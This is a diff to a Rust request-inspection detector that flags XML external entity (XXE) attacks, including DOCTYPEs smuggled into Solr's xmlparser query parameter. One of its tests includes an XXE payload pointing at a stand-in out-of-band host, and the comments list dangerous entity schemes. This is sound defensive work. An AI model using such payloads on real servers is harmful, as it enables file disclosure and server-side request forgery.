@@ -966,9 +966,13 @@ fn claims_loopback(list: &str) -> bool {
 /// XML entities and DTDs, the means of XXE: an entity declaration (external entities read
 /// files and URLs, nested internal ones expand a billion times), an internal DTD subset,
 /// or an external DTD by a scheme other than HTTP (`file:`, `jar:`, `php:`, `expect:`...) at
-/// paranoia 1; any other external DTD from paranoia 2, since document types such as cXML,
-/// plist and SVG 1.1 name theirs by URL and parsers that load them are rare.
-pub(crate) fn xml_entities(v: &Variants, sink: &mut Sink<'_>) {
+/// paranoia 1; any other external DTD of a `document` (a body's own declaration) from
+/// paranoia 2, since document types such as cXML, plist and SVG 1.1 name theirs by URL and
+/// parsers that load them are rare. A document type inside a parameter (`{!xmlparser
+/// v='<!DOCTYPE a SYSTEM "http://…">'}`, Solr's XML query parser) names a DTD for a parser
+/// the request means to reach: paranoia 1 whatever its scheme, unless the parameter is a
+/// document itself (it starts with `<`: cXML's `cxml-urlencoded` form field).
+pub(crate) fn xml_entities(v: &Variants, document: bool, sink: &mut Sink<'_>) {
     let text = v.lower();
     if !text.contains("<!") {
         return;
@@ -997,7 +1001,9 @@ pub(crate) fn xml_entities(v: &Variants, sink: &mut Sink<'_>) {
     });
     if let Some(url) = external {
         let web = url.starts_with("http://") || url.starts_with("https://");
-        if !web && url.contains(':') {
+        // A parameter that is itself a document (`cxml-urlencoded`, an XHTML field) is one.
+        let embedded = !document && !text.trim_start().starts_with('<');
+        if (!web && url.contains(':')) || embedded {
             sink.hit(PROTO_XXE, text, doctype);
         } else {
             sink.hit(PROTO_EXTERNAL_DTD, text, doctype);
@@ -1493,5 +1499,11 @@ mod tests {
             );
         }
         assert!(hits(Kind::Declaration, "xml:!declaration", "<!DOCTYPE html>", 4).is_empty());
+        // In a parameter, any external DTD is fetched for a parser the request reaches.
+        let param =
+            r#"{!xmlparser v='<!DOCTYPE a SYSTEM "http://oast.example.net:4444/x.dtd"><a></a>'}"#;
+        assert!(hits(Kind::Value, "query:q", param, 1).contains(&PROTO_XXE));
+        assert!(!hits(Kind::Value, "query:q", "<!DOCTYPE html><p>hi</p>", 4).contains(&PROTO_XXE));
+        assert!(!hits(Kind::Value, "form:cxml-urlencoded", public[0], 1).contains(&PROTO_XXE));
     }
 }
